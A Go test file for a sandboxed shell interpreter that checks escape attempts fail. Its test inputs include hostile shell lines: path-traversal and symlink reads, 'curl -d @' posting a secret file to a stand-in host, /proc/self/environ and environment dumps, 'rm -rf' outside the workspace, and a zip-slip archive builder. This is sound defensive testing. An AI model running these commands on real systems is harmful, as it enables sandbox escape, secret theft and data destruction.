package shell_test

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"awslab/runner/shell"
)

// TestWaysOut tries every door. Each block must fail to show the secret that
// lies beside the workspace, and must leave the secret as it is.
func TestWaysOut(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("the blocks are written for Unix paths")
	}
	const secret = "s3cr3t-outside"
	for name, text := range map[string]string{
		"redirect in":            `cat < OUT/secret`,
		"redirect dotdot":        `cat < ../outside/secret`,
		"redirect out":           `echo x > OUT/secret`,
		"redirect append":        `echo x >> OUT/secret`,
		"redirect both":          `echo x &> OUT/secret`,
		"substitution file":      `echo "$(<OUT/secret)"`,
		"cat":                    `cat OUT/secret`,
		"cat dotdot":             `cat ../outside/secret`,
		"cat link":               `cat link`,
		"cat link folder":        `cat linkdir/secret`,
		"redirect link":          `cat < link`,
		"redirect out link":      `echo x > link`,
		"redirect onto dangling": `echo x > dangling; cat dangling`,
		"cp from":                `cp OUT/secret got; cat got`,
		"cp from link":           `cp link got; cat got`,
		"cp to":                  `echo x > f; cp f OUT/secret`,
		"cp -r":                  `cp -r OUT got; cat got/secret`,
		"mv from":                `mv OUT/secret got; cat got`,
		"mv to":                  `echo x > f; mv f OUT/secret`,
		"rm":                     `rm -rf OUT`,
		"rm dotdot":              `rm -rf ../outside`,
		"rm through link":        `rm -rf linkdir/secret`,
		"touch":                  `touch OUT/new; ls OUT`,
		"mkdir":                  `mkdir OUT/new; [ -d OUT/new ] && echo SECRET`,
		"tee":                    `echo x | tee OUT/secret`,
		"sort -o":                `echo x | sort -o OUT/secret`,
		"ls":                     `ls OUT`,
		"ls link":                `ls linkdir`,
		"glob":                   `echo OUT/*`,
		"glob link":              `echo linkdir/*`,
		"glob dotdot":            `echo ../outside/*`,
		"cd":                     `cd OUT && cat secret`,
		"cd dotdot":              `cd .. && cat outside/secret`,
		"cd link":                `cd linkdir && cat secret`,
		"pushd":                  `pushd OUT && cat secret`,
		"test -e":                `[ -e OUT/secret ] && echo SECRET`,
		"test -r link":           `[ -r link ] && echo SECRET`,
		"test -d":                `[[ -d OUT ]] && echo SECRET`,
		"source":                 `source OUT/secret; declare -p TOKEN`,
		"source link":            `. ./link`,
		"grep":                   `grep . OUT/secret`,
		"grep -r":                `grep -r . linkdir/`,
		"jq":                     `jq -R . OUT/secret`,
		"jq slurpfile":           `jq -n --rawfile x OUT/secret '$x'`,
		"jq import":              `jq -n 'import "OUT/secret" as $d; $d'`,
		"jq env":                 `jq -n 'env.AWSLAB_TEST_SECRET'`,
		"zip":                    `zip -q a.zip OUT/secret; unzip -p a.zip`,
		"zip link":               `zip -qr a.zip link linkdir; unzip -p a.zip`,
		"zip to":                 `echo x > f; zip OUT/a.zip f; [ -e OUT/a.zip ]`,
		"unzip -d":               `unzip -o evil.zip -d OUT; cat OUT/x`,
		"unzip slip":             `unzip -o evil.zip`,
		"diff":                   `echo x > f; diff f OUT/secret`,
		"base64":                 `base64 OUT/secret | base64 -d`,
		"sha256sum":              `sha256sum OUT/secret && echo SECRET`,
		"wc":                     `wc -c OUT/secret`,
		"head":                   `head OUT/secret`,
		"openssl -out":           `openssl rand -hex -out OUT/secret 8`,
		"curl file":              `curl -s file://OUT/secret`,
		"curl -o":                `curl -s -o OUT/secret http://x.localhost:1/`,
		"curl -d @":              `curl -sv -d @OUT/secret http://x.localhost:1/`,
		"proc environ":           `cat /proc/self/environ`,
		"proc root":              `cat /proc/self/root/OUT/secret`,
		"proc cwd":               `cat /proc/self/cwd/x < /dev/null; cat /proc/self/maps && echo SECRET`,
		"dev fd":                 `cat /dev/fd/0 < OUT/secret`,
		"environment":            `echo "${AWSLAB_TEST_SECRET-}"; env; declare -p; export; set`,
		"process substitution":   `cat <(cat OUT/secret)`,
		"output substitution":    `echo x > >(cat > OUT/secret)`,
		"eval substitution":      `eval 'cat <(cat OUT/secret)'`,
		"trap substitution":      `trap 'cat <(cat OUT/secret)' EXIT`,
		"fifo name in TMPDIR":    `cat < "$TMPDIR/sh-interp-x"`,
		"fifo name, TMPDIR set":  `TMPDIR=OUT; cat < OUT/sh-interp-x`,
		"user's home":            `cat ~root/.profile; echo ~root`,
		"program":                `/bin/cat OUT/secret`,
		"program by PATH":        `PATH=/bin:/usr/bin; id`,
		"program exec":           `exec /bin/cat OUT/secret`,
		"program command":        `command /bin/cat OUT/secret`,
		"program in workspace":   `./run`,
		"command -v":             `command -v /bin/cat && echo SECRET`,
		"command -v PATH":        `PATH=/bin; command -v id && echo SECRET`,
		"type":                   `type -p /bin/cat && echo SECRET; type /bin/cat && echo SECRET`,
		"builtin type":           `builtin type /bin/cat && echo SECRET`,
		"which":                  `which /bin/cat && echo SECRET`,
		"pwd -P":                 `PWD=OUTLINK; pwd -P`,
		"builtin pwd -P":         `PWD=OUTLINK; builtin pwd -P; command pwd -P`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			top := t.TempDir()
			dir, outside := filepath.Join(top, "ws"), filepath.Join(top, "outside")
			for _, d := range []string{dir, outside, filepath.Join(dir, ".tmp")} {
				if err := os.Mkdir(d, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			write := func(name string, mode os.FileMode, text string) {
				if err := os.WriteFile(name, []byte(text), mode); err != nil {
					t.Fatal(err)
				}
			}
			file := filepath.Join(outside, "secret")
			write(file, 0o644, secret+"\n")
			write(filepath.Join(outside, "sh-interp-x"), 0o644, secret+"\n")
			write(filepath.Join(dir, "run"), 0o755, "#!/bin/sh\necho "+secret+"\n")
			for link, to := range map[string]string{
				"link": file, "linkdir": outside, "dangling": filepath.Join(outside, "made"),
				".tmp/sh-interp-x": file,
			} {
				if err := os.Symlink(to, filepath.Join(dir, link)); err != nil {
					t.Fatal(err)
				}
			}
			write(filepath.Join(dir, "evil.zip"), 0o644, evilZip(t))

			w := newWorld(t, shell.Config{Dir: dir})
			text = strings.ReplaceAll(text, "OUTLINK", filepath.Join(dir, "linkdir"))
			o := w.run(strings.ReplaceAll(text, "OUT", outside))
			if said := o.out + o.err; strings.Contains(said, secret) || strings.Contains(o.out, "SECRET") ||
				strings.Contains(o.out, "sh-interp-x") || strings.HasPrefix(o.out, outside+"\n") {
				t.Errorf("it got out: code %d\nstdout: %s\nstderr: %s", o.Code, o.out, o.err)
			}
			if data, err := os.ReadFile(file); err != nil || string(data) != secret+"\n" {
				t.Errorf("the secret became %q, %v", data, err)
			}
			entries, err := os.ReadDir(outside)
			if err != nil || len(entries) != 2 {
				t.Errorf("outside there are %v, %v", entries, err)
			}
			if entries, err := os.ReadDir(top); err != nil || len(entries) != 2 {
				t.Errorf("beside the workspace there are %v, %v", entries, err)
			}
		})
	}
}

// evilZip holds entries that lead out of where they are unpacked.
func evilZip(t *testing.T) string {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, name := range []string{"../outside/x", "../../x", "/tmp/../x", "a/../../outside/secret", `..\outside\x`, "linkdir/secret"} {
		out, err := w.Create(name)
		if err == nil {
			_, err = out.Write([]byte("evil\n"))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	header := &zip.FileHeader{Name: "newlink"}
	header.SetMode(os.ModeSymlink | 0o777)
	out, err := w.CreateHeader(header)
	if err == nil {
		_, err = out.Write([]byte("/etc"))
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

func TestEnvironmentDoesNotLeak(t *testing.T) {
	t.Setenv("AWSLAB_TEST_SECRET", "s3cr3t")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "s3cr3t")
	var seen []string
	w := newWorld(t, shell.Config{Commands: map[string]shell.Command{
		"program": func(_ context.Context, c *shell.Call) int {
			seen = append(c.Environ(), c.Getenv("AWSLAB_TEST_SECRET"), c.Getenv("AWS_SECRET_ACCESS_KEY"))
			return 0
		},
	}})
	o := w.run("program; env; declare -p; echo ${AWSLAB_TEST_SECRET-}${!AWS*}; jq -n env")
	if said := o.out + o.err + strings.Join(seen, "\n"); strings.Contains(said, "s3cr3t") {
		t.Errorf("it shows: %s", said)
	}
}

func TestRefused(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		text string
		line int
	}{
		"process substitution": {"true\ncat <(echo hi)", 2},
		"in eval":              {"eval 'cat <(echo hi)'", 1},
		"user's home":          {"echo ~root", 0},
		// These end the process where the interpreter runs them in goroutines.
		"unset nothing":        {`x=; unset "$x" | true`, 1},
		"test -v of nothing":   {`x=; [ -v "$x" ] | true`, 1},
		"[[ -v of nothing":     {`x=; [[ -v $x ]] | true`, 1},
		"a reference":          {"declare -n r=; echo $r | true", 1},
		"a reference, local":   {"f() { local -n r=$1; echo $r; }; f '' | true", 1},
		"a reference, dynamic": {`o=-n; declare "$o" r=; echo $r | true`, 1},
		"a reference, eval":    {`eval 'declare -gn r=' | true; echo $r`, 1},
		"huge braces":          {"\n\necho {1..1000000000}", 3},
		"many braces":          {"echo " + strings.Repeat("{a,b}", 20), 1},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			o := newWorld(t, shell.Config{}).run(tt.text)
			refused, ok := errors.AsType[*shell.RefusedError](o.stopped)
			if !ok || o.Code != 1 || refused.Line != tt.line {
				t.Errorf("stopped by %v, code %d", o.stopped, o.Code)
			}
		})
	}
}

func TestNamedPipeDoesNotHang(t *testing.T) {
	t.Parallel()
	w := newWorld(t, shell.Config{})
	makePipe(t, filepath.Join(w.dir, "pipe"))
	for _, text := range []string{"cat pipe", "cat < pipe", "echo x > pipe", "grep x pipe", "cp pipe y", "zip a.zip pipe", "source pipe", "head pipe"} {
		if o := w.run(text); o.Code == 0 || o.stopped != nil {
			t.Errorf("%s: code %d, stopped: %v", text, o.Code, o.stopped)
		}
	}
}
